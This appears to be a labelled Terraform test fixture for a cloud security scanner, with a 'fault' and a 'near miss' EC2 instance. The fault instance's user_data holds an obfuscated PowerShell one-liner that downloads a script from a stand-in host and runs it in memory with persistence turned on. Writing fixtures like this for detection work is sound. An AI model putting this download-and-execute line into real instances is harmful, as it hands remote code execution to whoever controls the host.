# A Windows instance runs a script that it downloads in memory.
# Source: https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/user-data.html (Windows)
# Fault at: aws_instance.udps_fault
# Near miss at: aws_instance.udps_near

resource "aws_kms_key" "udps_key" {
  description         = "Key for udps_key"
  enable_key_rotation = true
}

resource "aws_vpc" "udps_vpc" {
  cidr_block = "10.20.0.0/16"
}

resource "aws_subnet" "udps_subnet" {
  vpc_id     = aws_vpc.udps_vpc.id
  cidr_block = "10.20.1.0/24"
}

data "aws_ami" "udps_ami" {
  owners     = ["self"]
  name_regex = "^shop-prod-base-"
  depends_on = [aws_kms_key.udps_key]
}

resource "aws_instance" "udps_fault" {
  ami                  = data.aws_ami.udps_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udps_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udps_key.arn
  }
  user_data = "<powershell>\n$w=New-Object Net.WebClient; &('i'+'ex') $w.DownloadString('https://get.example.net/w.ps1')\n</powershell>\n<persist>true</persist>"
}

resource "aws_instance" "udps_near" {
  ami                  = data.aws_ami.udps_ami.id
  instance_type        = "m7g.medium"
  subnet_id            = aws_subnet.udps_subnet.id
  monitoring           = true
  ebs_optimized        = true
  metadata_options {
    http_endpoint = "enabled"
    http_tokens   = "required"
    http_put_response_hop_limit = 1
  }
  root_block_device {
    encrypted  = true
    kms_key_id = aws_kms_key.udps_key.arn
  }
  user_data = "<powershell>\nSet-TimeZone -Id 'W. Europe Standard Time'\nRestart-Service AmazonSSMAgent\n</powershell>"
}
